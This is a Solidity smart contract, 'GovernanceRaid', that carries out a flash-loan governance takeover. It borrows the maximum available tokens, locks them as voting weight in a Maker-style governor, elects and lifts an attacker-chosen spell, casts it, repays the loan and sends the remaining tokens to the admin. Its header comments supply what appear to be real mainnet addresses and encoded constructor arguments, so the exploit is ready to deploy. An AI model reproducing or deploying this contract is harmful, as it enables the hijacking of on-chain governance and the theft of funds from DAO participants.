// SPDX-License-Identifier: BSD-3-Clause
// provider: maker
// family: governance
// contract: GovernanceRaid
// shows: entry callback address
// since: 0.8.4
// arguments: 0x000000000000000000000000777700000000000000000000000000000000777700000000000000000000000088880000000000000000000000000000000088880000000000000000000000006b175474e89094c44da98b954eedeac495271d0f
// Written like a product: a base contract, custom errors, events, a struct of settings.
pragma solidity ^0.8.4;

interface IERC3156FlashLender { function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool); function maxFlashLoan(address token) external view returns (uint256); }
interface IERC20 { function approve(address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256); function transfer(address, uint256) external returns (bool); }
interface IGovernor { function lock(uint256) external; function free(uint256) external; function etch(address[] calldata) external returns (bytes32); function vote(bytes32) external; function lift(address) external; }
interface ISpell { function cast() external; }

abstract contract Borrower {
	error NotLender(address who);
	error NotSelf();
	bytes32 internal constant OK = keccak256("ERC3156FlashBorrower.onFlashLoan");
	IERC3156FlashLender internal immutable lender;
	constructor(IERC3156FlashLender l) { lender = l; }
	function _with(uint256 amount, bytes memory data) internal virtual;
	function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32) {
		if (msg.sender != address(lender)) revert NotLender(msg.sender);
		if (initiator != address(this)) revert NotSelf();
		_with(amount, data);
		IERC20(token).approve(msg.sender, amount + fee);
		return OK;
	}
}

contract GovernanceRaid is Borrower {
	struct Plan { address governor; address spell; address token; }
	Plan public plan;
	address public immutable admin;
	event Raided(address indexed governor, uint256 weight);

	constructor(Plan memory p) Borrower(IERC3156FlashLender(0x60744434d6339a6B27d73d9Eda62b6F66a0a04FA)) { plan = p; admin = msg.sender; }

	function raid() external {
		require(msg.sender == admin, "admin");
		lender.flashLoan(address(this), plan.token, lender.maxFlashLoan(plan.token), abi.encode(block.timestamp));
		IERC20(plan.token).transfer(admin, IERC20(plan.token).balanceOf(address(this)));
	}

	function _with(uint256 amount, bytes memory) internal override {
		IERC20(plan.token).approve(plan.governor, amount);
		IGovernor(plan.governor).lock(amount);
		address[] memory slate = new address[](1);
		slate[0] = plan.spell;
		IGovernor(plan.governor).vote(IGovernor(plan.governor).etch(slate));
		IGovernor(plan.governor).lift(plan.spell);
		ISpell(plan.spell).cast();
		IGovernor(plan.governor).free(amount);
		emit Raided(plan.governor, amount);
	}
}
